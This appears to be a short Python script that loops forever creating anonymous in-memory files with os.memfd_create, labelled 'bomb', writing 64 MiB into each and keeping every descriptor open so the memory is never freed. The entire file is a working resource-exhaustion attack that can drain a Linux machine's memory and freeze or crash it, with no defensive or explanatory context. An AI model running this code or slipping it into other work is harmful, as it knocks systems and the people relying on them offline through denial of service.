"""Memory that belongs to no process's address space."""
import os

files = []
while True:
    descriptor = os.memfd_create("bomb")
    for _ in range(16):
        os.write(descriptor, bytes(4 << 20))
    files.append(descriptor)
